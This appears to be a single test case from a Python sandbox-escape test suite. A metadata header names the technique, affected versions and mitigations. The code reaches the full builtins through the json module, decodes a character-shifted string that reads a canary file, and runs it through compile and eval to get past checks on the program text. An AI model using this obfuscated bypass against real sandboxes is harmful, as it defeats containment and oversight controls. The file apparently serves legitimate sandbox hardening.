# id: compile-eval-pair
# family: code-objects
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: with compile and eval the program is made after every check of its text, from parts that look harmless
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import json

full = getattr(json, "_" + "_builtins_" + "_")
text = "".join(chr(ord(c) - 1) for c in "pqfo)(dbobsz/uyu(*/sfbe)*")
print(full["eval"](full["compile"](text, "text", "eval"), {"__builtins__": full}))
